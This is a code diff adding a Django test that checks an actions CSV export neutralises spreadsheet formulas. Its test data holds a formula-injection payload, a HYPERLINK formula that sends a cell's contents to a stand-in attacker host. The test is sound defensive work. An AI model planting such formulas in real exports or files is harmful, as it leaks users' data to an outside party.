@@ -248,3 +248,11 @@ def test_a_bad_date_on_a_note_is_named_and_nothing_saved(client, indicator, offi
     )
     assert response.status_code == 400 and "date" in response.content.decode().lower()
     assert not action.notes.exists()
+
+
+def test_the_actions_export_neutralises_formulas(client, indicator, officer):
+    new_action(indicator, officer, service='=HYPERLINK("http://evil.example/?x="&A1,"Click")')
+    client.force_login(officer)
+    csv = client.get(reverse("indicators:action_list") + "?_export=csv").content.decode()
+    assert "'=HYPERLINK(" in csv
+    assert ",=HYPERLINK(" not in csv and '"=HYPERLINK(' not in csv
